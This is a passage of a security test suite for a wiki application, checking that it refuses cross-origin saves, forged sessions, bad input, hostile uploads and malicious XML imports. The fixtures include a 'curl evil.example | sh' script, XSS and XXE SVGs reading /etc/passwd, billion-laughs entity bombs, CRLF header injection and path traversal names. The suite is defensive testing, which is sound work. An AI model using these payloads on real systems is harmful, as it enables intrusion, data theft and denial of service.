  }
  const { c } = await signedIn();
  const title = newTitle("Origins");
  const other = new URL(origin);
  other.protocol = "https:";
  for (const source of [other.origin, `http://${other.hostname}:${Number(port) + 7}`]) {
    const res = await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "x", baseRevisionId: null }, headers: { Origin: source } });
    probe(res.status() === 403, `a save with Origin ${source} answered ${res.status()}`);
  }
  for (const path of ["/wiki/Main%20Page", "/wiki/Main__Page", "/wiki/Cafe%CC%81"]) {
    const { status, location } = await new Promise<{ status?: number; location?: string }>((resolve, reject) => {
      http
        .get({ host: new URL(origin).hostname, port, path, headers: { Host: "evil.example" } }, (r) => {
          r.resume();
          resolve({ status: r.statusCode, location: r.headers.location });
        })
        .on("error", reject);
    });
    probe(status === 308 && typeof location === "string" && location.startsWith("/") && !location.startsWith("//"), `${path} redirected to ${location}`);
  }
});

test("text PostgreSQL cannot hold (NUL, unpaired surrogates) is a 400 wherever it enters, never a 500", async () => {
  const { c, name } = await signedIn();
  const title = newTitle("Unstorable");
  const made = await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "fine", baseRevisionId: null } });
  const base = (await made.json()).revision.id as number;
  for (const bad of ["a\u0000b", "a\ud800b", "\udfff"]) {
    const bodies: [string, string, unknown][] = [
      ["PUT", `/api/pages/${slugPath(title)}`, { markdown: bad, baseRevisionId: base }],
      ["PUT", `/api/pages/${slugPath(title)}`, { markdown: "ok", summary: bad, baseRevisionId: base }],
      ["POST", "/api/preview", { markdown: bad }],
      ["POST", `/api/talk/${slugPath(title)}`, { content: bad }],
      ["POST", "/api/tokens", { name: bad }],
      ["PATCH", "/api/users/me", { bio: bad }],
      ["PATCH", "/api/users/me", { displayName: bad }],
      ["POST", `/api/move/${slugPath(title)}`, { to: `Moved ${bad}` }],
      ["POST", "/api/accounts", { username: `x${bad}yz`, email: "nul@example.test", password: "correct horse battery" }],
    ];
    for (const [method, path, data] of bodies) {
      const res = await c.fetch(path, { method, data });
      probe(res.status() === 400, `${method} ${path} with ${JSON.stringify(bad)} answered ${res.status()}`);
    }
  }
  for (const path of ["/api/users/a%00b", "/api/contributions/a%00b", "/api/pages?after=a%00b", "/recent-changes?before=%00", "/search?q=x&offset=%00", "/wiki/A%00B", "/api/history/X%00"]) {
    const res = await c.get(path);
    probe(res.status() === 400, `${path} answered ${res.status()}`);
  }
  // a sign-in with NUL in the name: a 400, and nothing of the database in the answer
  const fresh = await ctx({ Origin: origin });
  const { csrfToken } = (await (await fresh.get("/api/auth/csrf")).json()) as { csrfToken: string };
  const signin = await fresh.post("/api/auth/callback/credentials", { form: { csrfToken, username: `${name}\u0000`, password: PASSWORD, json: "true" }, maxRedirects: 0 });
  const text = (await signin.text()) + (signin.headers().location ?? "");
  probe(signin.status() === 400 && !/invalid byte|0x00|prisma|SQL/i.test(text), `NUL sign-in answered ${signin.status()}: ${text.slice(0, 200)}`);
});

test("a session ends for good: a cookie kept from before sign-out, or from before the address's owner claimed the account, is no session", async () => {
  const { c, name } = await signedIn();
  const kept = await c.storageState();
  const { csrfToken } = (await (await c.get("/api/auth/csrf")).json()) as { csrfToken: string };
  expect((await c.post("/api/auth/signout", { form: { csrfToken, json: "true" } })).ok()).toBeTruthy();
  const replay = await ctx({ Origin: origin }, kept);
  probe((await replay.get("/api/me")).status() === 401, "a kept cookie still read /api/me after sign-out");
  const save = await replay.put(`/api/pages/${slugPath(newTitle("After signout"))}`, { data: { markdown: "x", baseRevisionId: null } });
  probe(save.status() === 401, `a kept cookie still saved after sign-out (${save.status()})`);
  // the same person signs in again: a new session works
  const again = await contexts.signedIn(name);
  expect((await again.get("/api/me")).status()).toBe(200);

  // an impostor signs up with someone else's address; the owner claims it with a magic link
  const impostor = newUsername("impostor");
  const address = `${newUsername("owner")}@example.test`;
  expect((await (await ctx()).post("/api/accounts", { data: { username: impostor, email: address, password: PASSWORD } })).status()).toBe(201);
  const impostorSession = await contexts.signedIn(impostor);
  const owner = await ctx({ Origin: origin });
  const csrf = ((await (await owner.get("/api/auth/csrf")).json()) as { csrfToken: string }).csrfToken;
  expect((await owner.post("/api/auth/signin/email", { form: { csrfToken: csrf, email: address, json: "true" } })).ok()).toBeTruthy();
  const [mail] = await waitForMail(address, (m) => /Sign in to Vellum/.test(m.subject ?? ""));
  const link = /https?:\/\/\S+\/api\/auth\/callback\/email\S+/.exec(mail!.text ?? "")![0];
  await owner.get(link);
  expect((await owner.get("/api/me")).status()).toBe(200);
  probe((await impostorSession.get("/api/me")).status() === 401, "the impostor's session outlived the owner's claim");
});

test("limits that hold: magic links per client, tokens per person (paginated), next-auth's own routes never 500", async () => {
  const c = await ctx({ Origin: origin });
  const statuses: number[] = [];
  for (let i = 0; i < 25; i++) {
    const { csrfToken } = (await (await c.get("/api/auth/csrf")).json()) as { csrfToken: string };
    const res = await c.post("/api/auth/signin/email", { form: { csrfToken, email: `${newUsername("many")}@example.test`, json: "true" }, maxRedirects: 0 });
    statuses.push(res.status());
  }
  probe(statuses.slice(-5).every((s) => s === 429), `25 addresses from one client answered ${statuses.join(",")}`);

  const { c: person } = await signedIn();
  const made: number[] = [];
  for (let i = 0; i < 51; i++) made.push((await person.post("/api/tokens", { data: { name: `t${i}` } })).status());
  probe(made.slice(0, 50).every((s) => s === 201) && made[50] === 409, `51 tokens answered ${[...new Set(made)].join(",")} (the last ${made[50]})`);
  const first = (await (await person.get("/api/tokens?limit=20")).json()) as { tokens: { id: string }[]; next: string | null };
  probe(first.tokens.length === 20 && first.next !== null, "GET /api/tokens is paginated");
  const second = (await (await person.get(`/api/tokens?limit=20&before=${first.next}`)).json()) as { tokens: { id: string }[] };
  probe(second.tokens.length === 20 && !second.tokens.some((t) => first.tokens.some((f) => f.id === t.id)), "the second page repeats the first");
  probe((await person.get("/api/tokens?limit=100000")).status() === 400, "an unbounded token list");

  const anon = await ctx();
  for (const path of ["/api/auth/error?error=%0d%0aSet-Cookie:%20x=1", "/api/auth/error?error=%E2%80%A8", "/api/auth/error?error=a%0ab", "/api/auth/callback/credentials", "/api/auth/signin?callbackUrl=%0d%0a"]) {
    const res = await anon.get(path, { maxRedirects: 0 });
    probe(res.status() < 500 && !res.headers()["set-cookie"]?.includes("x=1"), `${path} answered ${res.status()}`);
  }
});

test("signed-in documents are private to shared caches", async () => {
  const { c } = await signedIn();
  const res = await c.get("/wiki/Main_Page");
  probe((res.headers()["cache-control"] ?? "").includes("private"), `Cache-Control ${res.headers()["cache-control"]}`);
});

test("shared HTTP caches: only signed-out documents carry surrogate keys; PURGE and BAN at the wiki are refused", async () => {
  // instance B is set up as if a shared cache stood in front (PURGE_TARGETS, decision 0025)
  const { c, name } = await signedIn();
  const title = newTitle("Surrogate");
  expect((await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "keys", baseRevisionId: null } })).status()).toBe(201);
  const anon = await ctx();
  for (const view of [`/wiki/${slugPath(title)}`, `/history/${slugPath(title)}`, "/recent-changes", `/api/pages/${slugPath(title)}`]) {
    for (let i = 0; i < 2; i++) {
      // a read that a change overtook is rightly not marked (decision 0025); a list changes with any change anywhere
      // (background work too: a render retried when idle), so it may be asked again, a few times at most
      const keyed = (r: APIResponse) => /^[A-Za-z0-9_-]{16}( [A-Za-z0-9_-]{16})*$/.test(r.headers()["xkey"] ?? "") && /max-age=\d+/.test(r.headers()["surrogate-control"] ?? "");
      let open = await anon.get(`${INSTANCE_B}${view}`);
      for (let again = 0; !keyed(open) && view === "/recent-changes" && again < 3; again++) open = await anon.get(`${INSTANCE_B}${view}`);
      probe(keyed(open), `${view}: a signed-out document had no surrogate keys (${open.headers()["xkey"]})`);
      const mine = await c.get(`${INSTANCE_B}${view}`);
      probe(mine.headers()["xkey"] === undefined && mine.headers()["surrogate-control"] === undefined, `${view}: a document for ${name} could be kept by a shared cache`);
    }
  }
  for (const view of ["/signin", "/api/auth/csrf", "/api/me", "/settings", "/api/tokens"]) {
    const res = await anon.get(`${INSTANCE_B}${view}`);
    probe(res.headers()["xkey"] === undefined, `${view}: a personal or cookie-setting answer carried surrogate keys`);
  }
  const bearer = await anon.get(`${INSTANCE_B}/wiki/${slugPath(title)}`, { headers: { Authorization: "Bearer nothing" } });
  probe(bearer.headers()["xkey"] === undefined, "a request with a token got surrogate keys");
  for (const method of ["PURGE", "BAN"]) {
    const res = await anon.fetch(`${INSTANCE_B}/wiki/${slugPath(title)}`, { method, headers: { "xkey-purge": "w" } });
    probe(res.status() >= 400 && res.status() < 500, `${method} at the wiki answered ${res.status()}`);
  }
});

test("kept documents: nothing personal reaches another reader, a client cannot ask for a page to be kept, and a forged session is nobody", async () => {
  const { c, name } = await signedIn();
  const title = newTitle("Kept");
  expect((await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "kept", baseRevisionId: null } })).status()).toBe(201);
  const anon = await ctx();
  const views = [`/wiki/${slugPath(title)}`, `/history/${slugPath(title)}`, `/talk/${slugPath(title)}`, "/recent-changes", "/pages", `/search?q=kept`];
  for (const view of views) {
    // the signed-in reader first (and with the header only the front may send), then a signed-out one: twice each,
    // so the second of each comes from what the first left
    for (let i = 0; i < 2; i++) {
      const mine = await c.get(view, { headers: { "x-vellum-capture": "1" } });
      probe(mine.status() === 200 && (await mine.text()).includes(`>${name}</a>`), `${view}: a client's x-vellum-capture took its own name out of its page`);
    }
    for (let i = 0; i < 2; i++) {
      const theirs = await anon.get(view);
      const html = await theirs.text();
      probe(!/>user_[0-9a-f]{8}<\/a><a href="\/signout"/.test(html) && html.includes(">Sign in</a>"), `${view}: a signed-out reader was shown someone's account links`);
      probe(!theirs.headers()["set-cookie"], `${view}: a shared document set a cookie`);
      probe(!(theirs.headers()["cache-control"] ?? "").includes("private") && !/csrf|session-token/i.test(html), `${view}: a shared document carried session data (${theirs.headers()["cache-control"]})`);
    }
    // a router request of the same path is flight data, never the kept HTML
    const flight = await anon.get(view, { headers: { RSC: "1" } });
    probe(!(flight.headers()["content-type"] ?? "").includes("text/html") || view.startsWith("/wiki/"), `${view}: an RSC request got ${flight.headers()["content-type"]}`);
  }
  for (const cookie of ["next-auth.session-token=forged", "next-auth.session-token.0=a; next-auth.session-token.1=b", "__Secure-next-auth.session-token=x"]) {
    const forged = await (await ctx({ Cookie: cookie })).get(`/wiki/${slugPath(title)}`);
    const html = await forged.text();
    probe(forged.status() === 200 && html.includes(">Sign in</a>") && !html.includes('href="/signout"'), `a forged session cookie (${cookie}) was taken for someone`);
  }
});

test("SIGTERM stops an instance within seconds even while it is serving a request", async () => {
  test.skip(!process.env.E2E_DATABASE_URL, "needs the setup of npm test");
  const port = Number(new URL(origin).port) + 50;
  const cleanups: (() => Promise<void>)[] = [];
  const child = await startApp({
    port,
    cleanups,
    stdio: "ignore",
    env: { DATABASE_URL: process.env.E2E_DATABASE_URL, MAIL_WORKER: "off" },
  });
  try {
    // a request in flight: a body that never finishes arriving
    const hanging = http.request({ host: "127.0.0.1", port, method: "POST", path: "/api/preview", headers: { "Transfer-Encoding": "chunked", "Content-Type": "application/json" } });
    hanging.on("error", () => {});
    hanging.write("{");
    await new Promise((r) => setTimeout(r, 200));
    const exited = new Promise<number | null>((resolve) => child.once("exit", (code) => resolve(code)));
    child.kill("SIGTERM");
    const code = await Promise.race([exited, new Promise<"still running">((r) => setTimeout(() => r("still running"), 10_000))]);
    probe(code !== "still running", "the instance was still running 10 s after SIGTERM");
  } finally {
    if (child.exitCode === null) child.kill("SIGKILL");
  }
});

/** A PNG of `width` x `height` pixels; `seed` makes its bytes unique. */
const tinyPng = (seed: number, width = 4, height = 3) =>
  sharp({ create: { width, height, channels: 3, background: { r: seed % 256, g: Math.floor(seed / 256) % 256, b: 7 } } }).png().toBuffer();

test("files: bytes that lie about their type, harmful SVGs, pixel bombs, empty and oversized bodies are 4xx and store nothing", async () => {
  const { c } = await signedIn();
  const blobsBefore = Number((await sql("SELECT count(*) AS n FROM blobs"))[0].n);
  const put = (name: string, data: Buffer | string) => c.put(`/api/files/${slugPath(`File:${name}`)}`, { data: typeof data === "string" ? Buffer.from(data) : data });
  const refusals: [string, Buffer | string, RegExp][] = [
    [`${newTitle("html")}.png`, "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", /text\/html/],
    [`${newTitle("script")}.png`, "<script>alert(document.cookie)</script>", /text\/html/],
    [`${newTitle("shell")}.png`, "#!/bin/sh\ncurl evil.example | sh\n", /application\/x-sh/],
    [`${newTitle("js")}.txt`, "<script src=//evil.example/x.js></script>", /text\/html/],
    [`${newTitle("pe")}.pdf`, Buffer.concat([Buffer.from("MZ"), Buffer.alloc(256)]), /./],
    [`${newTitle("png")}.gif`, await tinyPng(1), /image\/png/],
    [`${newTitle("svgscript")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', /script/],
    [`${newTitle("svgonload")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>', /event handler/],
    [`${newTitle("svgfo")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>', /foreignObject/],
    [`${newTitle("svgext")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/track.png"/></svg>', /outside/],
    [`${newTitle("svgcss")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url(https://evil.example/x) }</style></svg>', /style/],
    [`${newTitle("svgxxe")}.svg`, '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', /DOCTYPE/],
    [`${newTitle("bomb")}.png`, pngClaiming(100_000, 100_000), /100000 x 100000/],
    [`${newTitle("empty")}.png`, "", /empty/],
  ];
  for (const [name, data, why] of refusals) {
    const res = await put(name, data);
    const body = await res.text();
    probe(res.status() === 400 && why.test(body) && body.includes('"bad_request"'), `upload of ${name} answered ${res.status()} ${body.slice(0, 160)}`);
  }
  const limit = Number(process.env.E2E_UPLOAD_MAX_BYTES ?? 100 * 1024 * 1024);
  const cookie = (await c.storageState()).cookies.map((k) => `${k.name}=${k.value}`).join("; ");
  const path = `/api/files/${slugPath(`File:${newTitle("big")}.png`)}`;
  const declared = await raw({ method: "PUT", path, headers: { Origin: origin, Cookie: cookie, "Content-Length": String(limit + 1) } });
  probe(declared.status === 413, `an upload declared past UPLOAD_MAX_BYTES answered ${declared.status}`);
  const chunked = await raw({
    method: "PUT",
    path,
    headers: { Origin: origin, Cookie: cookie, "Transfer-Encoding": "chunked" },
    body: (req) => {
      const chunk = Buffer.alloc(512 * 1024, 0x61);
      let sent = 0;
      const write = () => {
        while (sent < limit + 4 * 1024 * 1024) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once("drain", write);
        }
        req.end();
      };
      req.on("error", () => {});
      write();
    },
  });
  probe(chunked.status === 413 || chunked.status === 0, `an undeclared upload past UPLOAD_MAX_BYTES answered ${chunked.status}`);
  const blobsAfter = Number((await sql("SELECT count(*) AS n FROM blobs"))[0].n);
  probe(blobsAfter === blobsBefore, `refused uploads stored ${blobsAfter - blobsBefore} blobs`);
  probe((await (await ctx()).get("/api/health")).ok(), "the server still answers");
});

test("files: names with ../, controls, bidi overrides and quotes are refused or made safe, in titles and Content-Disposition", async () => {
  const { c } = await signedIn();
  const png = await tinyPng(2);
  for (const name of ["../../etc/passwd.png", "a/../b.png", "bell\u0007.png", "nul\u0000.png", "del\u007f.png"]) {
    const res = await c.put(`/api/files/File:${name.split("/").map(encodeURIComponent).join("/")}`, { data: png });
    probe(res.status() === 400, `a file named ${JSON.stringify(name)} answered ${res.status()}`);
  }
  // line breaks are white space in a title: they become one space, so no header can be smuggled through a name
  const crlf = await c.put(`/api/files/${encodeURIComponent(`File:${newTitle("line")}\r\nSet-Cookie: x=1.png`)}`, { data: png });
  const crlfFile = crlf.status() === 201 ? ((await crlf.json()) as { file: { title: string; url: string } }).file : null;
  const crlfHeaders = crlfFile ? (await (await ctx()).get(crlfFile.url)).headers() : {};
  probe(crlf.status() === 400 || (!!crlfFile && !/[\r\n]/.test(crlfFile.title) && !("set-cookie" in crlfHeaders)), `a name with CR LF: ${crlf.status()} ${JSON.stringify(crlfHeaders)}`);
  // a bidi override is removed from the title: "invoice\u202Egnp.exe" is then named .exe, and PNG bytes disagree
  const bidi = await c.put(`/api/files/${encodeURIComponent("File:invoice\u202Egnp.exe")}`, { data: png });
  probe(bidi.status() === 400, `a name with a bidi override answered ${bidi.status()}`);
  const quoted = `File:${newTitle("Say")} "hi"; x=1 é.png`;
  const up = await c.put(`/api/files/${slugPath(quoted)}`, { data: png });
  probe(up.status() === 201, `a name with quotes and a semicolon was refused: ${up.status()}`);
  const { file } = (await up.json()) as { file: { url: string } };
  const cd = (await (await ctx()).get(file.url)).headers()["content-disposition"] ?? "";
  const quotedPart = /filename="([^"]*)"/.exec(cd)?.[1] ?? "";
  probe(/^inline; filename="[^"]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/.test(cd) && !/[";]/.test(quotedPart), `Content-Disposition ${cd}`);
  probe(decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(cd)?.[1] ?? "") === quoted.slice(5).replaceAll(" ", "_") || decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(cd)?.[1] ?? "") === quoted.slice(5), `the encoded name is the file's: ${cd}`);
  for (const q of ["width=-1", "width=abc", "width=1e9", "width=0", "width=99999999999"]) {
    const res = await (await ctx()).get(`${file.url}?${q}`);
    probe(res.status() === 400, `?${q} answered ${res.status()}`);
  }
  for (const p of ["/media/abc/x.png", "/media/0/x.png", "/media/99999999999/x.png", "/media/2147483647/x.png"]) {
    const res = await (await ctx()).get(p);
    probe(res.status() === 404, `${p} answered ${res.status()}`);
  }
});

test("files: readers, blocked and signed-out people, requests without Origin and uploads to protected pages are refused", async () => {
  const png = await tinyPng(3);
  const title = `File:${newTitle("Guarded")}.png`;
  const anonymous = await (await ctx()).put(`/api/files/${slugPath(title)}`, { data: png });
  probe(anonymous.status() === 401, `a signed-out upload answered ${anonymous.status()}`);
  const reader = await signedIn();
  await sql("UPDATE users SET role = 'reader' WHERE username_key = $1", [reader.name.toLowerCase()]);
  probe((await reader.c.put(`/api/files/${slugPath(title)}`, { data: png })).status() === 403, "a reader uploaded");
  const blocked = await signedIn();
  await sql("UPDATE users SET blocked = true WHERE username_key = $1", [blocked.name.toLowerCase()]);
  probe((await blocked.c.put(`/api/files/${slugPath(title)}`, { data: png })).status() === 403, "a blocked person uploaded");
  const editor = await signedIn();
  const noOrigin = await ctx({}, await editor.c.storageState());
  probe((await noOrigin.put(`/api/files/${slugPath(title)}`, { data: png })).status() === 403, "a cookie upload without Origin was taken");
  const created = await editor.c.put(`/api/files/${slugPath(title)}`, { data: png });
  probe(created.status() === 201, `the editor's upload answered ${created.status()}`);
  await sql("UPDATE pages SET protection = 'admin' WHERE title = $1", [title]);
  probe((await editor.c.put(`/api/files/${slugPath(title)}`, { data: await tinyPng(4) })).status() === 403, "an upload to a protected File page was taken");
  const { versions } = (await (await ctx()).get(`/api/files/${slugPath(title)}`).then((r) => r.json())) as { versions: { id: number }[] };
  probe((await editor.c.post(`/api/files/${slugPath(title)}/revert`, { data: { versionId: versions[0]!.id } })).status() === 403, "a revert of a protected file was taken");
  probe(versions.length === 1, `a refused upload added a version (${versions.length})`);
});

test("files: two uploads of one name at once are both kept, in order; the same bytes under two names are stored once; uploads are rate-limited", async () => {
  const { c } = await signedIn();
  const title = `File:${newTitle("Race")}.png`;
  const [one, two] = await Promise.all([c.put(`/api/files/${slugPath(title)}`, { data: await tinyPng(10) }), c.put(`/api/files/${slugPath(title)}`, { data: await tinyPng(11) })]);
  probe([one.status(), two.status()].sort().join() === "200,201", `two uploads at once answered ${one.status()} and ${two.status()}`);
  const { versions } = (await (await c.get(`/api/files/${slugPath(title)}`)).json()) as { versions: { number: number }[] };
  probe(versions.map((v) => v.number).join() === "2,1", `versions ${versions.map((v) => v.number).join()}`);
  const same = await tinyPng(12);
  const [x, y] = [`File:${newTitle("Twin")}.png`, `File:${newTitle("Twin")}.png`];
  const fx = (await (await c.put(`/api/files/${slugPath(x)}`, { data: same })).json()) as { file: { version: { sha256: string } } };
  probe((await c.put(`/api/files/${slugPath(y)}`, { data: same })).status() === 201, "the second name took the same bytes");
  const copies = await sql("SELECT count(*)::int AS n FROM blobs WHERE sha256 = $1", [fx.file.version.sha256]);
  const pages = await sql("SELECT count(*)::int AS n FROM file_versions WHERE sha256 = $1", [fx.file.version.sha256]);
  probe(copies[0].n === 1 && pages[0].n === 2, `one copy of the bytes (${copies[0].n}), two pages (${pages[0].n})`);
  const fast = await signedIn();
  let limited = false;
  for (let i = 0; i < 40 && !limited; i++) {
    const res = await fast.c.put(`/api/files/${slugPath(`File:${newTitle("Flood")}.png`)}`, { data: await tinyPng(1000 + i) });
    limited = res.status() === 429;
    if (limited) probe((await res.json()).error.code === "rate_limited", "a 429 says rate_limited");
  }
  probe(limited, "uploading as fast as possible never met the rate limit");
});

/** A MediaWiki export of one page, `text` its wikitext (raw: entities and markup as given). */
function mediawikiExport(title: string, text: string, prolog = "", version = "0.11"): string {
  const revision = mediawikiRevision(1, "2020-01-01T00:00:00Z", text, "<username>Mallory</username>");
  return mediawikiDump(mediawikiPage(title, 1, revision), { dbname: `security${version.replace(".", "")}`, version, prolog });
}

test("MediaWiki import: only admins, only from the site; entity bombs, external entities, other schemas and broken XML are 400 and import nothing", async () => {
  const title = newTitle("Imported");
  const body = mediawikiExport(title, "hello");
  const headers = { "Content-Type": "application/xml" };
  probe((await (await ctx()).post("/api/admin/import/mediawiki", { data: body, headers })).status() === 401, "a signed-out import");
  const editor = await signedIn();
  probe((await editor.c.post("/api/admin/import/mediawiki", { data: body, headers })).status() === 403, "an editor's import");
  probe((await editor.c.get("/api/admin/import/mediawiki")).status() === 403, "an editor read the import runs");
  const admin = await signedIn();
  await makeAdmin(admin.name);
  const noOrigin = await ctx({}, await admin.c.storageState());
  probe((await noOrigin.post("/api/admin/import/mediawiki", { data: body, headers })).status() === 403, "a cookie import without Origin");
  const hostile: [string, string][] = [
    ["billion laughs", mediawikiExport(title, "&c;", `<?xml version="1.0"?><!DOCTYPE mediawiki [<!ENTITY a "${"a".repeat(50)}"><!ENTITY b "${"&a;".repeat(50)}"><!ENTITY c "${"&b;".repeat(50)}">]>`)],
    ["external entity", mediawikiExport(title, "&x;", `<?xml version="1.0"?><!DOCTYPE mediawiki [<!ENTITY x SYSTEM "file:///etc/passwd">]>`)],
    ["parameter entity", mediawikiExport(title, "x", `<?xml version="1.0"?><!DOCTYPE mediawiki [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>`)],
    ["undeclared entity", mediawikiExport(title, "&passwd;")],
    ["another schema", mediawikiExport(title, "x", "", "0.3")],
    ["not MediaWiki", `<html><body>${title}</body></html>`],
    ["truncated", body.slice(0, body.indexOf("hello"))],
    ["malformed", body.replace("</title>", "</titel>")],
    ["not UTF-8", body.replace("hello", "\xff\xfe")],
  ];
  for (const [what, xml] of hostile) {
    const data = what === "not UTF-8" ? Buffer.concat([Buffer.from(body.slice(0, body.indexOf("hello"))), Buffer.from([0xff, 0xfe]), Buffer.from(body.slice(body.indexOf("hello") + 5))]) : xml;
    const res = await admin.c.post("/api/admin/import/mediawiki", { data, headers });
    const text = await res.text();
    probe(res.status() === 400 && !/passwd|root:/.test(text), `${what}: answered ${res.status()} ${text.slice(0, 200)}`);
  }
  probe((await (await ctx()).get(`/api/pages/${slugPath(title)}`)).status() === 404, "a refused import left a page");
  // a title MediaWiki allows and Vellum refuses is skipped and listed; a name of an existing account is never merged into it
  const byAdmin = `<username>${admin.name}</username>`;
  const taken = mediawikiDump(
    mediawikiPage("Back\\slash", 1, mediawikiRevision(1, "2020-01-01T00:00:00Z", "x", byAdmin)) +
      mediawikiPage(title, 2, mediawikiRevision(2, "2020-01-01T00:00:00Z", "mine?", byAdmin)),
    { dbname: "security011" },
  );
  const ok = await admin.c.post("/api/admin/import/mediawiki", { data: taken, headers });
  const summary = (await ok.json()) as { skipped: { title: string }[]; renamed: { from: string; to: string }[] };
  probe(ok.status() === 200 && summary.skipped.some((s) => s.title === "Back\\slash"), `a refused title was not skipped: ${JSON.stringify(summary)}`);
  const history = (await (await ctx()).get(`/api/history/${slugPath(title)}`).then((r) => r.json())) as { revisions: { author: { username: string } | null }[] };
  probe(history.revisions[0]?.author?.username !== admin.name, "an imported author was merged into an existing account");
  probe(summary.renamed.some((r) => r.from === admin.name && r.to !== admin.name), "the colliding author was not renamed");
});

test("blame: bad revisions, another page's revision and hostile titles are 4xx; blame shows text, never HTML", async () => {
  const { c } = await signedIn();
  const title = newTitle("Blamed");
  const saved = (await (await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "<img src=x onerror=alert(1)>\nsecond", baseRevisionId: null } })).json()) as { revision: { id: number } };
  const other = newTitle("Other");
  const otherRev = (await (await c.put(`/api/pages/${slugPath(other)}`, { data: { markdown: "x", baseRevisionId: null } })).json()) as { revision: { id: number } };
  const anon = await ctx();
  for (const [url, want] of [
    [`/api/blame/${slugPath(title)}?revision=abc`, 400], [`/api/blame/${slugPath(title)}?revision=99999999999`, 400],
    [`/api/blame/${slugPath(title)}?revision=-1`, 400], [`/api/blame/${slugPath(title)}?revision=${otherRev.revision.id}`, 404],
    [`/api/blame/${slugPath(newTitle("Missing"))}`, 404], ["/api/blame/a%00b", 400], ["/api/blame/%E0%A4%A", 400], ["/api/blame/x%5Dy", 400],
    [`/blame/${slugPath(title)}?revision=abc`, 400], ["/blame/a%5Bb", 400],
  ] as [string, number][]) {
    const res = await anon.get(url);
    probe(res.status() === want, `${url} answered ${res.status()}, not ${want}`);
  }
  const blame = (await (await anon.get(`/api/blame/${slugPath(title)}`)).json()) as { lines: { text: string; revision: { id: number } }[] };
  probe(blame.lines[0]?.text === "<img src=x onerror=alert(1)>" && blame.lines[0].revision.id === saved.revision.id, "blame did not give the text as written");
  const html = await (await anon.get(`/blame/${slugPath(title)}`)).text();
  probe(!html.includes("<img src=x") && html.includes("&lt;img src=x onerror=alert(1)&gt;"), "the blame page did not escape the text");
});

test("Next.js's internal headers are refused at the front, and no answer without a page's shape is ever kept or shared", async () => {
  const { c } = await signedIn();
  const title = newTitle("Prefetch");
  expect((await c.put(`/api/pages/${slugPath(title)}`, { data: { markdown: "still here", baseRevisionId: null } })).status()).toBe(201);
  const anon = await ctx();
  const views = ["/pages", `/history/${slugPath(title)}`, "/recent-changes", `/api/pages/${slugPath(title)}`, `/wiki/${slugPath(title)}`, `/talk/${slugPath(title)}`];
  const internal: Record<string, string>[] = [
    { "x-middleware-prefetch": "1" }, { "X-Middleware-Subrequest": "middleware" }, { "x-nextjs-data": "1" }, { "x-invoke-path": "/pages" },
    { "x-matched-path": "/pages" }, { "x-now-route-matches": "1" }, { "x-prerender-revalidate": "1" }, { "x-next-revalidate-tag-token": "x" },
  ];
  for (const view of views) {
    for (const headers of internal) {
      for (const base of [origin, INSTANCE_B]) {
        const res = await anon.get(`${base}${view}`, { headers });
        probe(res.status() === 400 && res.headers()["xkey"] === undefined, `${view} with ${JSON.stringify(headers)} answered ${res.status()}`);
      }
    }
  }
  // whatever was tried, every reader still gets the page, on both instances and through a shared cache's headers
  for (const view of views) {
    for (const base of [origin, INSTANCE_B]) {
      const res = await anon.get(`${base}${view}`);
      const type = res.headers()["content-type"] ?? "";
      const body = await res.text();
      probe(res.status() === 200 && body.length > 50 && (view.startsWith("/api/") ? type.startsWith("application/json") : type.startsWith("text/html")), `${view} on ${base} answered ${res.status()} ${type} ${body.slice(0, 40)}`);
    }
  }
});

test("methods and request targets the wiki does not take are 4xx, never 500", async () => {
  const cases: [string, string][] = [["OPTIONS", "*"], ["GET", "*"], ["TRACE", "/wiki/Main_Page"], ["GET", "http://evil.example/wiki/Main_Page"], ["PROPFIND", "/wiki/Main_Page"], ["HEAD", "*"]];
  for (const [method, path] of cases) {
    const res = await raw({ method, path, headers: { Connection: "close" } });
    probe(res.status >= 400 && res.status < 500, `${method} ${path} answered ${res.status}`);
  }
});

test("an answer given before the body is read leaves the connection usable (or closed), never stuck", async () => {
  const admin = await signedIn();
  await makeAdmin(admin.name);
  const token = ((await (await admin.c.post("/api/tokens", { data: { name: "early answers" } })).json()) as { token: string }).token;
  const bomb = `<?xml version="1.0"?><!DOCTYPE mediawiki [<!ENTITY a "a">]><mediawiki>${"&a;".repeat(40_000)}</mediawiki>`;
  const small = `<?xml version="1.0"?><!DOCTYPE mediawiki [<!ENTITY a "a">]><mediawiki>&a;</mediawiki>`;
  // one keep-alive agent: every request after the first rides a connection an early answer may have left behind
  const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
  const url = new URL(origin);
  const post = (path: string, body: string | Buffer, headers: Record<string, string>) =>
    new Promise<number>((resolve) => {
      const req = http.request({ host: url.hostname, port: url.port, path, method: "POST", agent, headers: { ...headers, "Content-Length": String(Buffer.byteLength(body)) }, timeout: 15_000 }, (res) => {
        res.resume();
        res.on("end", () => resolve(res.statusCode ?? 0));
      });
      req.on("timeout", () => {
        req.destroy();
        resolve(-1);
      });
      req.on("error", () => resolve(0));
      req.end(body);
    });
  const auth = { Authorization: `Bearer ${token}`, "Content-Type": "application/xml" };
  try {
    for (const [i, body] of [bomb, small, small, bomb, small].entries()) {
      const status = await post("/api/admin/import/mediawiki", body, auth);
      probe(status === 400, `import ${i} after early answers on one connection: ${status === -1 ? "no answer in 15 s" : status}`);
    }
    // an upload refused from its first bytes, then an ordinary request on the same agent
